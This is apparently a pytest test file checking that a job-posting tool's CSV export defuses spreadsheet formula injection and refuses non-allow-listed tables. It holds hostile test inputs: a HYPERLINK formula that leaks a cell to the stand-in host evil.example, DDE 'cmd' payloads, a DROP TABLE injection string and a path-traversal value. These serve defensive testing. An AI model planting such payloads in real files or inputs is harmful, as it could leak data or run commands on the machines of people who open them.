"""CSV exports defuse formula injection (OWASP) and export only allow-listed tables."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from jobingest import pipeline
from jobingest.cli import app
from jobingest.export import FORMULA_TRIGGERS, safe_cell
from jobingest.settings import Settings
from jobingest.warehouse.db import get_engine
from jobingest.warehouse.marts import mart_postings_daily
from tests.conftest import example_board_titled
from tests.fakeboards import FakeBoards

runner = CliRunner()
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Apply")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def warehouse(
    boards: FakeBoards, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Settings:
    """A warehouse holding postings whose titles and companies are formulas; the CLI reads
    its settings from the environment like in production."""
    sources, _ = example_board_titled(
        boards, tmp_path, name="formulas", board="=1+1", titles=FORMULAS
    )
    assert pipeline.run_once(settings, sources).sources[0].status == "ok"
    monkeypatch.setenv("JOBINGEST_DATABASE_URL", settings.database_url.get_secret_value())
    monkeypatch.setenv("JOBINGEST_RAW_STORE", settings.raw_store)
    return settings


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_exported_postings_have_no_live_formulas(warehouse: Settings, tmp_path: Path) -> None:
    out = tmp_path / "postings.csv"
    result = runner.invoke(app, ["export", "posting", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_csv(out)
    titles = {row["title"] for row in rows}
    with get_engine(warehouse.database_url.get_secret_value()).connect() as connection:
        stored = set(connection.execute(text("SELECT title FROM posting")).scalars())
    formulas = {t for t in stored if t.startswith(FORMULA_TRIGGERS)}
    assert len(formulas) >= 4, stored  # the pipeline may trim the tab/CR ones to "=1+1"
    assert {"'" + t for t in formulas} <= titles
    assert not formulas & titles
    assert {row["board"] for row in rows} == {"'=1+1"}
    live = [
        (name, cell)
        for row in rows
        for name, cell in row.items()
        if cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)
    ]
    assert live == []
    raw = out.read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Apply"")"' in raw
    assert "signature" not in rows[0], "binary columns are not exported"


def test_marts_export_with_their_columns(warehouse: Settings, tmp_path: Path) -> None:
    out = tmp_path / "daily.csv"
    result = runner.invoke(app, ["export", "mart_postings_daily", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_csv(out)
    assert rows and list(rows[0]) == [c.name for c in mart_postings_daily.columns]


@pytest.mark.parametrize(
    "table", ["ingest_run", "raw_payload", "quarantine", "posting; DROP TABLE posting", "../x"]
)
def test_only_allow_listed_tables_can_be_exported(
    warehouse: Settings, tmp_path: Path, table: str
) -> None:
    out = tmp_path / "x.csv"
    result = runner.invoke(app, ["export", table, "--out", str(out)])
    assert result.exit_code == 2 and "cannot export" in result.output
    assert not out.exists()
    assert not list(tmp_path.glob(".*.part"))


def test_unknown_format_is_refused(warehouse: Settings, tmp_path: Path) -> None:
    result = runner.invoke(
        app, ["export", "posting", "--out", str(tmp_path / "x"), "--format", "xlsx"]
    )
    assert result.exit_code == 2 and "only csv" in result.output


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, -5),
        (-0.25, -0.25),
        (Decimal("-5"), -5),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-5+3", "'-5+3"),
        ("-A1", "'-A1"),
        ("=1+1", "'=1+1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Data Engineer", "Data Engineer"),
        (None, ""),
        (True, "true"),
        (["=1+1", "Berlin"], '["=1+1", "Berlin"]'),  # starts with "[": inert
        (["Berlin"], '["Berlin"]'),
    ],
)
def test_safe_cell(value: object, cell: object) -> None:
    """Typed numbers and text that is only a plain number stay numbers; anything else that a
    spreadsheet could evaluate gets the quote prefix."""
    assert safe_cell(value) == cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
